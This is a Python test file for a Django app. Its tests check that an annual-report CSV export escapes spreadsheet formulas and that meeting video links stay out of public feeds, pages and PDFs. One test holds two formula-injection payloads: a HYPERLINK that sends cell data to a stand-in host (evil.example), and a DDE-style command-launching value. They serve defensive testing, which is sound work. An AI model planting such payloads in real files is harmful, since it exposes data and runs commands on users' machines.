"""Small leaks: a spreadsheet does not run text from the annual-report CSV, and the meeting's video link is
for members (and the secretariat), never in the public calendar feed, public pages or public PDFs."""
import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone
from guardian.shortcuts import assign_perm
from pypdf import PdfReader

from bodies.models import Side
from helsefellesskap.reports.annual_report import spreadsheet_safe
from members.models import Membership
from members.services import calendar_feed_for, membership_create
from tests.factories import BodyFactory, PersonFactory, PriorityGroupFactory, UserFactory

pytestmark = pytest.mark.django_db

VIDEO = "https://video.example.no/rom/hemmelig-4711"


# -- CSV --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+47 999", "-2+3", "@SUM(A1:A2)", "\tskjult", "\r=1"])
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Møter", "Sak 1/2026 Felles rutine", "", 12, 0])
def test_other_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_annual_report_csv_escapes_formula_cells(client, scene):
    formula = '=HYPERLINK("https://evil.example/?d="&A1;"Klikk")'
    BodyFactory(partnership=scene["partnership"], name=formula)
    PriorityGroupFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    user = UserFactory()
    assign_perm("bodies.manage_partnership", user, scene["partnership"])
    client.force_login(user)
    response = client.get(reverse("reports:annual_report_csv",
                                  kwargs={"slug": scene["partnership"].slug, "year": timezone.localdate().year}))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert ["Møter", scene["su"].name, "avholdt", "1"] in rows  # figures stay numbers


# -- the video link ----------------------------------------------------------------------------------------


@pytest.fixture
def video_scene(scene):
    for meeting in (scene["held"], scene["noticed"]):
        meeting.video_link = VIDEO
        meeting.save()
    return scene


def member_of(body):
    person = PersonFactory(user=UserFactory())
    membership_create(body=body, person=person, role=Membership.Role.MEMBER, side=Side.MUNICIPAL,
                      term_start=date(2020, 1, 1), by=UserFactory())
    return person.user


def pdf_text(response):
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_public_calendar_feed_has_no_video_link_but_the_members_feed_does(client, video_scene):
    scene = video_scene
    public = client.get(reverse("public:body_calendar", kwargs={"slug": scene["partnership"].slug, "body_pk": scene["su"].pk}))
    assert public.status_code == 200 and "BEGIN:VEVENT" in public.content.decode()
    unfolded = public.content.decode().replace("\r\n ", "")
    assert "video.example.no" not in unfolded and "Videolenke" not in unfolded
    feed = calendar_feed_for(user=member_of(scene["su"]))
    member = client.get(reverse("member:calendar_feed", kwargs={"token": feed.token})).content.decode().replace("\r\n ", "")
    assert VIDEO in member


def test_public_notice_and_minutes_pdfs_have_no_video_link(client, video_scene):
    scene = video_scene
    slug = scene["partnership"].slug
    for meeting, name in ((scene["noticed"], "notice_pdf"), (scene["held"], "notice_pdf"), (scene["held"], "minutes_pdf")):
        text = pdf_text(client.get(reverse(f"public:{name}", kwargs={"slug": slug, "meeting_pk": meeting.pk})))
        assert meeting.place in text  # the facts table is there
        assert "video.example.no" not in text.replace("\n", "") and "Videolenke" not in text


def test_public_meeting_page_has_no_video_link_but_the_members_page_does(client, video_scene):
    scene = video_scene
    public = client.get(reverse("public:meeting", kwargs={"slug": scene["partnership"].slug, "meeting_pk": scene["noticed"].pk}))
    assert public.status_code == 200 and "Alta" in public.content.decode()
    assert VIDEO not in public.content.decode()
    client.force_login(member_of(scene["su"]))
    member = client.get(reverse("member:meeting_detail", kwargs={"meeting_pk": scene["noticed"].pk}))
    assert member.status_code == 200 and VIDEO in member.content.decode()


def test_the_secretariats_notice_pdf_keeps_the_video_link(client, video_scene):
    user = UserFactory()
    assign_perm("bodies.manage_partnership", user, video_scene["partnership"])
    client.force_login(user)
    text = pdf_text(client.get(reverse("meetings:notice_pdf", kwargs={"meeting_pk": video_scene["noticed"].pk})))
    assert "Videolenke" in text and "hemmelig-4711" in text.replace("\n", "")
